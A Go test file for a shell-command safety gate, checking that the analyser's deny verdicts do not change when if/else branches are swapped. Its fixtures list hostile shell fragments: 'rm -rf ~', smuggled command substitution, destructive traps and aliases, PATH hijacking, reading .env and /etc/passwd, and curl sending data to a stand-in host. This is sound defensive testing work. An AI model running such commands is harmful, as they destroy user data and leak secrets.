package shell_test

import (
	"math/rand/v2"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"
	"pgregory.net/rapid"

	"pp/engine"
	"pp/gates/shell"
)

// changes are commands that change what a shell knows, one of a pair of branches each.
var changes = []string{
	`x=$(find . -name "*.o")`, `x=$(find . -name ".env")`, `x=$(git ls-files)`, `x=a.txt`, `x=.env`, `x=/`,
	`x=`, `unset x`, `x=$(cat a.txt)`, `x=$(curl -s https://h.example/)`, `x=$(echo aGk= | base64 -d)`,
	`x=(a b)`, `x=(a .env c)`, `x=(-rf ~)`, `read -r x < a.txt`, `x=$(ls)`, `x=$(ls src)`, `x=5`, `x=$RANDOM`,
	`x=$(pgrep -x make)`, `x=$(pgrep -x sshd)`, `x=$$`, `x=$PPID`, `x=rm`, `x=ls`, `x='a[$(rm -rf ~)]'`,
	`declare -i x`, `declare -n x=y`, `declare -A x`, `readonly x`, `export x=1`, `x=$(date); export x`,
	`local x`, `cd src`, `cd /`, `cd "$HOME"`, `cd ..`, `cd build`, `cd "$y"`, `pushd src`, `set -f`, `set -e`,
	`shopt -s nullglob`, `shopt -s dotglob`, `set -- a b`, `set -- -rf ~`, `set --`, `shift`,
	`f() { rm -rf ~; }`, `f() { ls; }`, `unset -f f`, `alias ls='rm -rf'`, `trap 'rm -rf ~' EXIT`,
	`trap 'x=rm' DEBUG`, `IFS=:`, `PATH=/tmp/bin:$PATH`, `HOME=/`, `y=.env`, `y=src`, `x+=.env`, `x+=b`,
	`echo ls > s.sh`, `curl -s https://h.example/ -o s.sh`, `echo 'rm -rf ~' > s.sh`, `mkdir -p build`,
	`ln -s / link`, `ln -s build link`, `cp /bin/rm copy`, `cp /bin/ls copy`, `export GIT_DIR=/tmp/x`,
	`git remote add r https://h.example/r.git`, `git remote add r ../r.git`,
	`exec < a.txt`, `exec > out.txt`, `git config core.hooksPath h`, `:`, `exit 1`,
	`export -f f`, `x=*`, `x=src/*`, `x={a,b}`, `x=~`, `mapfile -t x < a.txt`,
}

// uses are commands whose verdict depends on what was changed.
var uses = []string{
	`cat $x`, `cat "$x"`, `rm -rf $x`, `rm -rf "$x"`, `rm -f -- $x`, `kill $x`, `kill "$x"`, `$x -rf ~`,
	`"${x[@]}" -rf ~`, `rm "${x[@]}"`, `echo $x`, `x=1; echo $x`, `x=.env; cat $y`, `f`, `f a`, `rm -rf "$@"`,
	`rm "$@"`, `cat $1`, `cat a.txt`, `rm -rf build`, `rm -rf *`, `ls`, `ls -la *`, `bash -c 'f'`,
	`bash -c 'rm -rf $x'`, `bash s.sh`, `. ./s.sh`, `./s.sh`, `rm -rf link/`, `read y; cat $y`, `make`,
	`wc -l *.go`, `xargs cat <<< "$x"`, `eval "$x"`, `git log $x`, `echo "$x" > out.txt`, `grep -rn foo $x`,
	`for i in $x; do cat $i; done`, `: $((x))`, `[[ -v $x ]]`, `curl -d "$x" https://h.example/`, `test -f $x`,
	`printf -v "$x" 1`, `unset "$x"`, `true`, `./copy -rf ~`, `git fetch r`, `git fetch --all`, `cat link/etc/passwd`,
}

// TestSwappedBranches: which of two branches is written first decides nothing.
func TestSwappedBranches(tb *testing.T) {
	walker, facts := analyst(), home()
	change, use := rapid.SampledFrom(changes), rapid.SampledFrom(uses)
	forms := []struct{ first, second string }{
		{"if test -f y; then A; else B; fi", "if test -f y; then B; else A; fi"},
		{"case $q in a) A;; *) B;; esac", "case $q in a) B;; *) A;; esac"},
		{"if test -f y; then A; elif test -f z; then B; fi", "if test -f y; then B; elif test -f z; then A; fi"},
		{"g() { if test -f y; then A; else B; fi; }; g", "g() { if test -f y; then B; else A; fi; }; g"},
		{
			"for i in 1 2; do if test -f y; then A; else B; fi; done",
			"for i in 1 2; do if test -f y; then B; else A; fi; done",
		},
	}
	rapid.Check(tb, func(t *rapid.T) {
		before := change.Draw(t, "before")
		a, b := change.Draw(t, "a"), change.Draw(t, "b")
		if rapid.Bool().Draw(t, "longer") {
			a += "; " + change.Draw(t, "then")
		}
		form := rapid.SampledFrom(forms).Draw(t, "form")
		end := use.Draw(t, "use")
		program := func(form string) string {
			return before + "\n" + strings.NewReplacer("A", a, "B", b).Replace(form) + "\n" + end
		}
		one, other := program(form.first), program(form.second)
		first, second := judge(tb, walker, one, facts), judge(tb, walker, other, facts)
		if first.Decision != second.Decision {
			t.Fatalf(
				"%v: %s\n%s\n\n%v: %s\n%s",
				first.Decision,
				one,
				first.Sentence(),
				second.Decision,
				other,
				second.Sentence(),
			)
		}
	})
}

// TestHiddenInOneBranch: a local variable hides what its branch left before, whichever branch is written first.
func TestHiddenInOneBranch(t *testing.T) {
	a, f := analyst(), home()
	sets := "x=$(find . -name .env); local x"
	for _, pair := range [][2]string{{"local x", sets}, {sets, "local x"}} {
		script := "x=$(find . -name '*.o'); g() { if test -f y; then " + pair[0] + "; else " + pair[1] + "; fi; }; g; cat $x"
		if v := judge(t, a, script, f); v.Decision != engine.Deny {
			t.Errorf("%s: %v %s", script, v.Decision, v.Sentence())
		}
	}
}

// TestBranchesOfOneName: what two branches put under one name may be there, whichever is written first.
func TestBranchesOfOneName(t *testing.T) {
	a, f := analyst(), home()
	for _, c := range []struct{ first, second, use string }{
		{"ln -s ~ l", "ln -s build l", "rm -rf l/"},
		{"ln -s / l", "ln -s build l", "rm -rf l/*"},
		{"cp /bin/rm c", "cp /bin/ls c", "./c -rf ~"},
		{"mv /bin/rm c", ":", "./c -rf ~"},
	} {
		for _, pair := range [][2]string{{c.first, c.second}, {c.second, c.first}} {
			script := "if test -f y; then " + pair[0] + "; else " + pair[1] + "; fi; " + c.use
			if v := judge(t, a, script, f); v.Decision != engine.Deny {
				t.Errorf("%s: %v %s", script, v.Decision, v.Sentence())
			}
		}
	}
}

// TestSwappedScripts swaps the branches of the ifs in the corpora.
func TestSwappedScripts(t *testing.T) {
	a, f := analyst(), home()
	swapped := 0
	for _, s := range metaSubjects(t, everyCorpus...) {
		if !strings.Contains(s.Cmd, "else") {
			continue
		}
		_, file, err := shell.Canonical(s.Cmd)
		if err != nil {
			continue
		}
		n := 0
		syntax.Walk(file, func(node syntax.Node) bool {
			if c, ok := node.(*syntax.IfClause); ok && c.Else != nil && len(c.Else.Cond) == 0 {
				c.Then, c.Else.Then = c.Else.Then, c.Then
				n++
			}
			return true
		})
		if n == 0 {
			continue
		}
		var b strings.Builder
		if err := syntax.NewPrinter().Print(&b, file); err != nil {
			continue
		}
		swapped++
		if x, y := judge(t, a, s.Cmd, f), judge(t, a, b.String(), f); x.Decision != y.Decision {
			t.Errorf("%s: %v, swapped %v: %s\n    %s\n    %s", s.ID, x.Decision, y.Decision, clipped(b.String(), 300),
				clipped(x.Sentence(), 200), clipped(y.Sentence(), 200))
		}
	}
	if swapped == 0 {
		t.Error("no script has branches to swap")
	}
}

// TestSwappedCommands makes branches of two commands of the corpora.
func TestSwappedCommands(t *testing.T) {
	a, f := analyst(), home()
	r := rand.New(rand.NewPCG(20261122, 13))
	subjects := metaSubjects(t, everyCorpus...)
	for range sample(300, 20_000) {
		x, y := subjects[r.IntN(len(subjects))].Cmd, subjects[r.IntN(len(subjects))].Cmd
		one, other := "if test -f y; then\n"+x+"\nelse\n"+y+"\nfi", "if test -f y; then\n"+y+"\nelse\n"+x+"\nfi"
		if v, w := judge(t, a, one, f), judge(t, a, other, f); v.Decision != w.Decision {
			t.Errorf("%v, swapped %v: %s\n    %s\n    %s", v.Decision, w.Decision, clipped(one, 400),
				clipped(v.Sentence(), 200), clipped(w.Sentence(), 200))
		}
	}
}
